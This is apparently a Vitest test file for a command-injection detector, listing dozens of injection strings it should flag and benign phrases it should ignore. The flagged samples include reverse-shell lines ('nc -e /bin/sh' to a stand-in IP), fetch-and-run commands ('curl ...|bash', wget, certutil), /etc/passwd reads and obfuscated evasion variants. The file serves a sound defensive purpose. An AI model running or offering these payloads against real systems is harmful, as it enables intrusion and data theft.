import { describe, expect, it } from 'vitest';
import { wordsFound } from '../testing/words-found.ts';
import { detectShell } from './detect-shell.ts';

const words = (text: string) => wordsFound(detectShell, text);

describe('detectShell', () => {
  it.each([
    ';cat /etc/passwd',
    '|id',
    ';id;',
    'a|id',
    '127.0.0.1;ls -la',
    '127.0.0.1 && ping -c 3 192.0.2.1',
    '127.0.0.1\nwhoami',
    ';wget http://192.0.2.1/a.sh -O /tmp/a',
    ';nc -e /bin/sh 192.0.2.1 4444',
    '|dir c:\\',
    '& timeout /t 10 &',
    ";c'a't /e't'c/passwd",
    ';ca\\t /etc/passwd',
    ';sleep 10',
    ';/usr/bin/id',
    '/index.html|id|',
    '"; uname -a; "',
    ';netstat -an',
    ';python -c "import os"',
    '|net user',
    ';ps aux',
    ';find / -name x.php',
    ';git clone http://192.0.2.1/a',
    ';mv a.jpg a.php',
    ';tar czf /tmp/a.tgz /srv',
    ';su - root',
    ';sudo -l',
    ';dig a.example',
    ';reboot',
    ';echo a > b.php',
    ';unzip a.zip',
    'curl 192.0.2.1|bash',
    '|for /f "delims=" %i in (\'whoami\') do echo %i',
    ';who$()ami',
    'a.example;/bin/ca? /et*/passwd',
    'a.example;c$?at /et$?c/pas$?swd',
    ';wh``oami',
    ';export PATH=/tmp:$PATH',
    ';ip a',
    '|start calc',
    '\\nid;',
    '\\n/bin/ls -al\\n',
    ';printf "%s" /etc/*',
    ';rm x1 #',
    '";del x1 #',
    '"\nrm x1 #',
    '|mount',
    ';history',
    '192.0.2.1;mv a b',
    ';ssh root@192.0.2.1',
    ';docker ps',
    ';{ id; }',
    ';! id',
    'uname >x1 #',
    "'ver\t>x1 &rem",
    'foo" || echo ab>>cd',
    ';if [ 1 -eq 1 ]; then id; fi',
    'default;env;',
  ])('finds a command after a separator in %s', (text) => {
    expect(words(text)).toContain('command-after-separator');
  });

  it.each([
    '$(id)',
    '`whoami`',
    '$(curl 192.0.2.1)',
    '`sleep 5`',
    '|curl http://192.0.2.1/$(whoami)',
    '"`id`"',
  ])('finds a substitution in %s', (text) => {
    expect(words(text)).toContain('command-substitution');
  });

  it.each([
    ';cat${IFS}/etc/passwd',
    ';cat$IFS/etc/passwd',
    '/???/??t /tmp',
    'a=c;b=at;$a$b x',
    'x%windir:~3,1%y',
    '{cat,/etc/passwd}',
    ';echo A$((11+22))B',
    ";$'\\x69\\x64\\x20'",
    ';$SHELL -c id',
    '; $u cat /etc$u/passwd$u',
    '/?in/cat /et?/passw?',
  ])('finds an expansion in %s', (text) => {
    expect(words(text)).toContain('shell-expansion');
  });

  it.each([
    'cat /etc/passwd',
    '/usr/bin/id',
    'ping -i 30 127.0.0.1',
    'cmd /c whoami',
    'powershell -enc SQBFAFgA',
    'dir c:\\',
    'ipconfig /all',
    'ls -laR /etc',
    'reg add "HKLM\\a" /v b',
    'for /f "tokens=*" %G in (\'dir /b\') DO echo %G',
    'FOR %a IN (set) DO abc',
    'if "%var%"=="" goto ERROR',
    'IF %ERRORLEVEL% EQU 2 goto x',
    '%COMSPEC% /c dir',
    'c^m^d /c whoami',
    'cd /;cd etc;fold passwd',
    'Invoke-WebRequest http://a.example/b.ps1',
    'Get-Process | Out-File C:\\a.txt',
    'type c:\\boot.ini',
    'ping;-w;8000;-n;1;192.0.2.1',
    'certutil -urlcache -f http://192.0.2.1/a a.exe',
    '^w^h^o^a^m^i',
    'ping 192.0.2.1',
    'ls /etc',
    'tar -xzf /var/www/a.tar.gz /etc',
    'printf ab | rev | sh',
    'find . -exec curl a.example ;',
    "wh''oami",
    "ti''me curl a.example",
    'nmap -sS http://192.0.2.1/',
  ])('finds a whole command line: %s', (text) => {
    expect(words(text)).toContain('command-line');
  });

  it('takes an option for a command line anywhere but in a search box', () => {
    const line = 'busybox -c "echo x"';
    expect(wordsFound(detectShell, line, 'query-value', 'x')).toContain('command-line');
    expect(wordsFound(detectShell, line, 'query-value', 'q')).toEqual([]);
  });

  it.each([
    "TypeError: null is not an object (reading 'a')\n    at https://shop.example/js/app.js:10:5",
    'TypeError: x\r\n    at http://shop.example/a.js:1:2\r\n    at f (http://shop.example/a.js:3:4)',
    'TypeError: x\n    at <anonymous>\n    at <anonymous>:1:2',
    'Traceback (most recent call last):\n  File "app.py", line 3, in <module>',
  ])('knows the lines of a stack trace: %s', (text) => {
    expect(words(text)).toEqual([]);
  });

  it.each([
    'x\nat https://192.0.2.1/a;id',
    'a\nfile /etc/passwd',
    'x\n    at https://h.example/a.js:1:2\nwget 192.0.2.1',
  ])('finds a command beside what looks like a stack trace: %s', (text) => {
    expect(words(text)).toContain('command-after-separator');
  });

  it.each([
    'dog | cat',
    'cat;dog',
    'dog;cat',
    'Tom & Jerry',
    'A && B',
    'fields=name|id',
    'name|id|price',
    'id',
    'id card holder',
    'mask;sleep',
    'mask;sleep 2024',
    'xbox;ps5',
    'fish & chips | sauce',
    'black|sort',
    'head & shoulders',
    'time; date',
    'ping pong -セット',
    'sort -price',
    'cat -dog',
    'curl;wave',
    '$(document)',
    '`code`',
    'rm -rf とは',
    'how to use `git` today',
    'please use `pip install x` first',
    'bash & zsh',
    'W & W',
    'games | reboot edition',
    'for sale; for men in (M)',
    'if you & if I',
    '/a/b?/c',
    'S|M|L',
    '$100',
    'who; what',
    'python -c option book',
    'type c: drive',
    'copy a: notes',
    'for each 5% in (stock)',
    'if 100% = cotton',
    'new-item',
    'invoke-wellness -set',
    'use `git` or `npm`',
    'dvd; cd / vinyl',
    'C:\\new\\netbook',
    'line one\\nfind me',
    'camera; ip a rated',
    'what does `ls -la` do in linux',
    'nmap -sS option',
    "rock''n roll",
    'find x for y',
    '1&#59;SET&#32;&#64;x',
    "'; exec xp_x",
    '1 /**/union/**/select 1',
    'find /etc/hosts in a text',
    'ping pong tables',
    'head of sales',
    'time warner',
    'print a | rev b',
    '; (a semicolon)',
    ';-)',
    '|id|name|price|',
    ';date;time;place',
    '; more of it is better than less',
    '"\nmore words',
    '& more',
    '5 & time',
    'top > bottom',
    'cat > dog',
    'a^b^c^d',
    '(^_^;)',
    '>_<;',
    '/a?x/b',
    '| id card holder',
    '; true crime stories',
    '&date of birth',
  ])('leaves %s alone', (text) => {
    expect(words(text)).toEqual([]);
  });
});
